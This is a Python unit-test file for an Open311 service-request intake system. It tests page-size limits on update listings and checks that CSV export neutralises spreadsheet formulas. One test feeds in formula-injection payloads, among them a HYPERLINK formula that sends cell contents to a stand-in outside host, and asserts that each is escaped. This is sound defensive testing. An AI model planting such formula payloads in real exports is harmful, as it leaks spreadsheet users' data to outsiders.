"""How far lists of updates reach, and what a spreadsheet makes of a file of requests."""

import csv

import pytest

from services.intake.open311.asking import DEEPEST
from services.intake.open311.exporting import line
from services.intake.open311.updates import read_span
from tests.unit.intake.village import NOON


def read(**given: str) -> list[int] | list[str]:
    """Return page and size of what is asked for, or the fields that are wrong."""
    found = read_span(given, NOON)
    return [fault.field for fault in found] if isinstance(found, list) else list(found[1:])


@pytest.mark.parametrize(("page", "size"), [(100, 1000), (1000, 100), (DEEPEST, 1)])
def test_pages_of_updates_reach_as_far_as_those_of_requests_and_no_further(page: int, size: int):
    assert read(page=str(page), page_size=str(size)) == [page, size]
    assert read(page=str(page + 1), page_size=str(size)) == ["page"]


def test_the_largest_page_is_the_usual_one():
    assert read() == [1, 1000]
    assert read(page="101") == ["page"]
    assert read(page_size="1001") == ["page_size"]


def test_what_somebody_wrote_is_no_formula_of_a_spreadsheet():
    written = ['=HYPERLINK("http://else.example.org/?"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
    [read_back] = csv.reader([line(written).decode()])
    assert read_back == [f"'{text}" for text in written]


def test_numbers_and_other_texts_stay_as_they_are():
    assert line([-3.5, 104.02, 7, None, "1=1", "a+b", "井盖", ""]) == "-3.5,104.02,7,,1=1,a+b,井盖,\r\n".encode()
